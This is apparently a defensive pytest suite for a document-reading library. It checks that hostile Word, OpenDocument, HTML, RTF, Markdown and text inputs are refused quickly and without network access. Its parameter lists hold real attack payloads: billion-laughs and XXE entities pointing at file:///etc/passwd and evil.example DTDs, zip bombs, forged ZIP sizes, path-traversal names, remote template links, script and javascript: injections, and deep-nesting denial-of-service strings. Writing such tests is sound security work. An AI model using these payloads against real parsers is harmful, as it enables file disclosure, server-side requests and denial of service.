"""Hostile files: read or refused, quickly, within little memory, and without fetching anything."""

import io
import random
import socket
import struct
import time
import tracemalloc
import zipfile

import pytest

from apps.desk import readers
from apps.desk.parser import parse
from apps.desk.piece import NotAPiece, Piece
from apps.desk.tests import documents
from apps.desk.tests.documents import docx, odt, paragraph, zipped

SECONDS = 10
TWENTY_MB = 20 * 1024 * 1024
DEEP = 100_000
BODY = paragraph("Quiet street finds a voice") + paragraph(
    "The first paragraph says what happened."
)
W = f'xmlns:w="{documents.W}"'


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    """Whoever fetches anything fails the test."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("Something was to be fetched.")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


def handed_in(data: bytes) -> Piece | str:
    """The piece, or why it is none; fails when it takes too long or says too much."""
    began = time.monotonic()
    try:
        said = parse(readers.read(data))
    except NotAPiece as problem:
        said = str(problem)
        assert said.endswith((".", "!"))
        assert "\n" not in said
        assert len(said) < 200
    assert time.monotonic() - began < SECONDS
    return said


def document_xml(markup: str | bytes) -> bytes:
    """A Word package whose main part is ``markup``."""
    package = io.BytesIO(docx(BODY))
    with zipfile.ZipFile(package) as old:
        members = {name: old.read(name) for name in old.namelist()}
    return zipped({**members, "word/document.xml": markup})


LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12)
)  # 10 ** 11 times "ha"


@pytest.mark.parametrize(
    "markup",
    [
        f'<?xml version="1.0"?><!DOCTYPE x [{LAUGHS}]><w:document {W}>&l11;</w:document>',
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document {W}>&e;</w:document>',
        f'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><w:document {W}/>',
        f'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/x">%e;]><w:document {W}/>',
        f'<!DOCTYPE x [{LAUGHS}]><w:document {W} w:a="&l11;"/>',
        ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>').encode(
            "utf-16"
        ),
        f"<w:document {W}><w:body>" + "<w:sdt><w:sdtContent>" * DEEP,
        f"<w:document {W}><w:body>" + "<w:p>" * DEEP + "</w:p>" * DEEP,
        f"<w:document {W}>" + "<w:p/>" * 3_000_000,
        f"<w:document {W} " + " ".join(f'a{n}=""' for n in range(2_000_000)) + "/>",
        "<w:document",
        "",
    ],
    ids=[
        *("laughs", "file", "dtd", "parameter", "attribute", "utf-16", "deep", "paragraphs"),
        *("million", "attributes", "cut", "nothing"),
    ],
)
def test_xml_that_would_do_harm_is_refused(markup):
    assert isinstance(handed_in(document_xml(markup)), str)


def test_entities_in_opendocument_are_refused():
    data = zipped(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": f'<!DOCTYPE x [{LAUGHS}]><o:c xmlns:o="urn:o">&l11;</o:c>',
        }
    )
    assert "document type" in handed_in(data)


@pytest.mark.parametrize(
    "members",
    [
        {"word/document.xml": b"<x>" + b" " * 300_000_000},
        {"word/media/a.png": b"\0" * 100_000_000},
        {f"word/{n}": b"" for n in range(20_000)},
    ],
    ids=["document", "picture", "many"],
)
def test_zip_bombs_are_refused(members):
    package = {"[Content_Types].xml": "<Types/>", **members}
    data = zipped(package)
    assert len(data) < 5_000_000
    assert "more" in handed_in(data)


def test_a_package_that_lies_about_its_size_is_refused():
    data = bytearray(document_xml(f"<w:document {W}>{' ' * 3_000_000}</w:document>"))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset : at + offset + 4] = struct.pack("<I", 100)
            at = data.find(mark, at + 4)
    assert isinstance(handed_in(bytes(data)), str)


@pytest.mark.parametrize("cut", [30, 200, -40, -1])
def test_a_broken_package_is_refused(cut):
    assert isinstance(handed_in(docx(BODY)[:cut]), str)


def test_random_damage_never_fails_otherwise():
    chance = random.Random(5)  # noqa: S311
    blocks = documents.blocks_of("Quiet street\n\nOne.\n\nTwo.")
    for writer in documents.WRITERS.values():
        whole = writer([*blocks, documents.Shot(1)])
        for _try in range(60):
            data = bytearray(whole)
            for _byte in range(6):
                data[chance.randrange(len(data))] = chance.randrange(256)
            handed_in(bytes(data))


def test_macros_are_refused():
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    assert "macros" in handed_in(docx(BODY, main=main))
    assert "macros" in handed_in(docx(BODY, parts={"word/vbaProject.bin": b"macro"}))


def test_remote_pictures_and_templates_are_never_fetched():
    linked = documents.drawing("r5").replace("r:embed", "r:link")
    outside = {
        "r5": ("image", "http://evil.example/tracker.png"),
        "r6": ("attachedTemplate", "http://evil.example/template.dotm"),
        "r7": ("image", "file:///etc/passwd"),
        "r8": ("image", "\\\\evil.example\\share\\a.png"),
    }
    embedded = "".join(f"<w:p>{documents.drawing(key)}</w:p>" for key in ("r5", "r7", "r8"))
    document = readers.read(docx(BODY + f"<w:p>{linked}</w:p>{embedded}", relations=outside))
    assert document.pictures == ()
    assert [block.kind for block in document.blocks].count("photo") == 4


def test_names_are_never_paths(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = ["../../evil.xml", "/etc/evil", "C:\\evil", "word/media/../../../evil.png"]
    relations = {f"r{n}": ("image", name) for n, name in enumerate(names)}
    relations["r9"] = ("image", "../../../../../../etc/passwd")
    body = BODY + "".join(f"<w:p>{documents.drawing(key)}</w:p>" for key in relations)
    document = readers.read(docx(body, parts=dict.fromkeys(names, "x"), relations=relations))
    assert not document.pictures
    assert not list(tmp_path.iterdir())


HEAD = "<html><head><title>x</title></head><body><h1>Quiet street</h1><p>One went home.</p>"


@pytest.mark.parametrize(
    "page",
    [
        HEAD + "<div>" * DEEP + "deep",
        HEAD + "<table><tr><td>" * 20_000 + "deep",
        HEAD + "<ul><li>" * DEEP,
        HEAD + "<blockquote>" * DEEP,
        HEAD + "<b>" * 2_000_000,
        HEAD + "<p>a" * 550_000,
        HEAD + "<p " + "a='1' " * 1_000_000 + ">",
        HEAD + "<!--" * 1_000_000,
        HEAD + "<!" * 300_000,
        HEAD + "<![CDATA[" * 1_000_000,
        HEAD + "&" * TWENTY_MB,
        HEAD + "<a href=#" * 500_000,
        HEAD + "data:image/" * 1_000_000,
        HEAD + "data:image/png;" + "a=b;" * 1_000_000,
        HEAD + "<p>" + "\n" * 5_000_000 + "文",
        HEAD + "<p>" + "文\n" * 1_000_000,
        HEAD + "<sup><a href='#n'>1</a></sup>" * 100_000 + "<p id=n>Note",
        HEAD + "<p class='" + "nav-" * 1_000_000 + "'>text</p>" * 10,
        HEAD + '<img src="data:image/png;base64,' + "A" * 18_000_000 + '">',
    ],
    ids=lambda page: page[len(HEAD) : len(HEAD) + 20],
)
def test_pages_that_would_do_harm(page):
    handed_in(page.encode())


def test_pages_fetch_nothing_and_run_nothing():
    page = (
        HEAD + "<script>alert(1)</script><iframe src='http://evil.example'></iframe>"
        "<img src='http://evil.example/a.png'><link rel=stylesheet href='http://evil.example/a.css'>"
        "<p onclick='x()'>Two <a href='javascript:alert(1)'>went</a> home.</p><object data='x'>"
    )
    piece = handed_in(page.encode())
    assert piece.paragraphs == ("One went home.", "Two went home.")
    assert piece.links == ()


@pytest.mark.parametrize(
    "source",
    [
        "{" * DEEP + "deep",
        "{\\b " * DEEP,
        "{}" * 1_300_000,
        "{\\*\\shppict{\\pict\\pngblip " + "a" * 10_000_000,
        "{\\footnote " * 20_000,
        "{\\*\\shptxt " * 20_000,
        "\\bin99999999 x",
        "\\u99999999999?" * 100_000,
        "\\'" * 1_000_000,
        "\\trowd\\cell" * 200_000,
        "\\par " * 200_000,
        "\\" * 2_000_000,
    ],
    ids=lambda source: source[:16],
)
def test_rtf_that_would_do_harm(source):
    handed_in(f"{{\\rtf1\\ansi Quiet street\\par One went home.\\par {source}".encode())


@pytest.mark.parametrize(
    "line",
    [
        "[" * 100_000,
        "[a](" * 100_000,
        "![" * 100_000,
        "*" * 200_000,
        "*a_" * 100_000,
        "`" * 200_001,
        "> " * 20_000 + "x",
        "- " * 20_000 + "x",
        "[^1]" * 50_000,
        "|" * 300_000,
        "<" * 300_000,
        "a |\n" * 50_000,
        "---\n" * 50_000,
        "<a " * 100_000,
        "&amp" * 200_000,
    ],
    ids=lambda line: line[:8],
)
def test_markdown_that_would_do_harm(line):
    handed_in(f"# Quiet street\n\nOne went home.\n\n[^1]: A note.\n\n{line}\n".encode())


@pytest.mark.parametrize(
    "text",
    [
        "a " * (TWENTY_MB // 2),
        "a\n" * (TWENTY_MB // 2),
        "一二三，" * (TWENTY_MB // 12),
        "\n" * TWENTY_MB,
        "9" * 1_900_000,
        "1,000 " * 300_000,
        "(" * 1_900_000,
        "Photo: " * 250_000,
        "近" * 600_000,
        "“" * 600_000,
        " " * 1_900_000 + "x",
        "A" * 1_900_000,
        "Aa " * 600_000,
        "x: " * 600_000,
        "MIME-Version: 1\nContent-Type: multipart/mixed; boundary=a\n\n" + "--a\n\n" * 300_000,
        "Content-Type: text/html\nMIME-Version: 1.0\n\n" + "<p>" * 2_000_000,
        "A: b\n" * 3_000_000,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_text_that_would_do_harm(text):
    handed_in(f"Quiet street\n\nOne went home.\n\n{text}".encode())
    handed_in(text.encode())


def test_memory_stays_small():
    """The largest that is read at all, as Python counts it; the limit for a program is 600 MB."""
    page = HEAD + "".join(f"<p>{n} went home again today.</p>" for n in range(40_000))
    for data in (page.encode(), docx(paragraph("They went home again today.") * 40_000)):
        tracemalloc.start()
        document = readers.read(data)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert len(document.blocks) >= 40_000
        assert peak < 200 * 1024 * 1024


REFUSED = {
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), ".docx"),
    "locked": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "password",
    ),
    "PDF": (b"%PDF-1.7\n", "PDF"),
    "PNG": (b"\x89PNG\r\n\x1a\n", "picture"),
    "HEIC": (b"\0\0\0\x18ftypheic", "picture"),
    "film": (b"\0\0\0\x18ftypisom", "film"),
    "program": (b"MZ\x90\0\x03\0", "program"),
    "ELF": (b"\x7fELF\x02", "program"),
    "gzip": (b"\x1f\x8b\x08", "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c", "archive"),
    "zip": (zipped({"a.txt": "x"}), "archive"),
    "Excel": (
        docx(
            BODY, main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        ),
        "Excel",
    ),
    "locked ODT": (
        zipped(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": "<m><encryption-data/></m>",
                "content.xml": "x",
            }
        ),
        "password",
    ),
    "ODS": (
        zipped(
            {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<x/>"}
        ),
        "Word",
    ),
    "only a picture": (docx(f"<w:p>{documents.drawing('r1')}</w:p>"), "no text"),
    "empty page": (b"<html><body></body></html>", "empty"),
    "empty RTF": (b"{\\rtf1}", "empty"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_is_no_piece_is_refused_in_words_that_help(name):
    data, word = REFUSED[name]
    said = handed_in(data)
    assert isinstance(said, str)
    assert word in said


def test_an_opendocument_text_with_nothing_is_refused():
    assert "empty" in handed_in(odt(""))
